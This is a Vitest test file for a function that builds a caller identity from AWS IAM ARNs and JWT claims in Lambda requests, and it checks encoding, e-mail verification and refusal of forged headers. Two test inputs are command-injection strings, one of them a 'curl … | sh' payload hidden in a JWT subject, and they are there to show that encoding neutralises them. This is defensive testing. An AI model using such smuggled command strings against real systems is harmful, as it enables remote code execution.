import { describe, expect, it } from 'vitest';
import { anEvent } from '../../test/support/lambda/http-event.ts';
import { callerOf } from './caller.ts';

const account = '123456789012';
const iam = (userArn: string) => ({ iam: { userArn, accountId: account } });
const jwt = (claims: object) => ({ jwt: { claims, scopes: null } });
const google = { iss: 'https://accounts.google.com', sub: '108', email: 'Anna@Example.com' };
const github = {
  iss: 'https://token.actions.githubusercontent.com',
  sub: 'repo:acme/app:ref:refs/heads/main',
};

describe('the name of the caller', () => {
  it.each([
    { of: iam(`arn:aws:iam::${account}:user/anna`), name: `iam:${account}/user/anna` },
    { of: iam(`arn:aws:iam::${account}:user/team/anna`), name: `iam:${account}/user/team/anna` },
    { of: iam(`arn:aws:sts::${account}:assumed-role/ci/build-7`), name: `iam:${account}/role/ci` },
    { of: iam(`arn:aws:sts::${account}:assumed-role/ci/a/b`), name: `iam:${account}/role/ci` },
    { of: iam(`arn:aws-cn:sts::${account}:assumed-role/ci/x`), name: `iam:${account}/role/ci` },
    {
      of: iam(`arn:aws:iam::${account}:user/*/x';$(id)\`;/é`),
      name: `iam:${account}/user/%2A/x%27%3B%24%28id%29%60%3B/%C3%A9`,
    },
    {
      of: iam(`arn:aws:iam::${account}:user/a+b=c,d.e@f_g-h`),
      name: `iam:${account}/user/a+b=c,d.e@f_g-h`,
    },
    { of: iam(`arn:aws:sts::${account}:assumed-role/c*/x`), name: `iam:${account}/role/c%2A` },
    { of: iam(`arn:aws:iam::${account}:root`), name: `iam:${account}/root` },
    { of: jwt(google), name: 'jwt:accounts.google.com#108' },
    {
      of: jwt(github),
      name: 'jwt:token.actions.githubusercontent.com#repo:acme/app:ref:refs/heads/main',
    },
    {
      of: jwt({ iss: 'https://cognito-idp.eu-west-1.amazonaws.com/pool_1/', sub: 'x' }),
      name: 'jwt:cognito-idp.eu-west-1.amazonaws.com/pool_1#x',
    },
    { of: jwt({ iss: 'https://idp', sub: 'a * b%é' }), name: 'jwt:idp#a%20%2A%20b%25%C3%A9' },
    {
      of: jwt({ iss: 'https://idp#x', sub: "x';curl$IFS{evil}|sh;'" }),
      name: 'jwt:idp%23x#x%27%3Bcurl%24IFS%7Bevil%7D%7Csh%3B%27',
    },
  ])('is $name', ({ of, name }) => {
    const event = anEvent({ authorizer: of });

    expect(callerOf(event, 'sub').name).toBe(name);
  });

  it.each([
    { claims: { ...google, email_verified: 'true' }, name: 'accounts.google.com#anna@example.com' },
    { claims: { ...google, email_verified: true }, name: 'accounts.google.com#anna@example.com' },
    // Lowercasing would turn both characters into plain letters: another person's address.
    {
      claims: { ...google, email: '\u212aate@example.com', email_verified: true },
      name: 'accounts.google.com#%E2%84%AAate@example.com',
    },
    {
      claims: { ...google, email: '\u0130da@example.com', email_verified: true },
      name: 'accounts.google.com#%C4%B0da@example.com',
    },
  ])('by e-mail is $name', ({ claims, name }) => {
    expect(callerOf(anEvent({ authorizer: jwt(claims) }), 'email').name).toBe(`jwt:${name}`);
  });

  it.each([
    { of: 'no authorizer', authorizer: undefined, claim: 'sub', reason: 'No authorizer' },
    { of: 'an empty authorizer', authorizer: {}, claim: 'sub', reason: 'No authorizer' },
    { of: 'no ARN', authorizer: iam('anna'), claim: 'sub', reason: 'is not an ARN' },
    {
      of: 'half an ARN',
      authorizer: iam(`arn:aws:iam::${account}:user`),
      claim: 'sub',
      reason: 'ARN',
    },
    {
      of: 'a name that the caller of GetFederationToken chose',
      authorizer: iam(`arn:aws:sts::${account}:federated-user/bob`),
      claim: 'sub',
      reason: 'chosen by the caller',
    },
    {
      of: 'an unknown kind of identity',
      authorizer: iam(`arn:aws:sts::${account}:visitor/bob`),
      claim: 'sub',
      reason: 'is not an ARN',
    },
    { of: 'no subject', authorizer: jwt({ iss: 'https://a' }), claim: 'sub', reason: '“sub”' },
    { of: 'no issuer', authorizer: jwt({ sub: 'anna' }), claim: 'sub', reason: '“iss”' },
    { of: 'an inherited claim', authorizer: jwt(google), claim: 'toString', reason: '“toString”' },
    {
      of: 'an e-mail address without a verification claim',
      authorizer: jwt(google),
      claim: 'email',
      reason: 'not verified',
    },
    {
      of: 'an e-mail address that the issuer says is not verified',
      authorizer: jwt({ ...google, email_verified: 'false' }),
      claim: 'email',
      reason: 'not verified',
    },
    {
      of: 'a very long name',
      authorizer: jwt({ ...google, sub: 'x'.repeat(300) }),
      claim: 'sub',
      reason: 'more than 256 characters',
    },
  ])('is null with $of', ({ authorizer, claim, reason }) => {
    const caller = callerOf(anEvent({ authorizer }), claim);

    expect(caller).toMatchObject({ name: null, reason: expect.stringContaining(reason) });
  });

  it('never comes from a header', () => {
    const headers = {
      authorization: 'AWS4-HMAC-SHA256 Credential=root/…',
      'x-amzn-request-context': '{"authorizer":{"iam":{"userArn":"arn:aws:iam::1:root"}}}',
      'x-amzn-iam-user-arn': `arn:aws:iam::${account}:root`,
    };

    expect(callerOf(anEvent({ headers }), 'sub').name).toBeNull();
  });
});

describe('the origin of a request', () => {
  it.each([
    { authorizer: undefined, userAgent: 'curl/8', from: 'api 203.0.113.7 (curl/8)' },
    {
      authorizer: iam(`arn:aws:sts::${account}:assumed-role/ci/build-7`),
      userAgent: 'drydock/0.1.0',
      from: 'api 203.0.113.7 session=build-7 (drydock/0.1.0)',
    },
    { authorizer: undefined, userAgent: 'a\nb', from: 'api 203.0.113.7 (a?b)' },
    {
      authorizer: undefined,
      userAgent: 'x'.repeat(200),
      from: `api 203.0.113.7 (${'x'.repeat(83)}`,
    },
  ])('is shown as $from', ({ authorizer, userAgent, from }) => {
    expect(callerOf(anEvent({ authorizer, userAgent }), 'sub').from).toBe(from);
  });
});
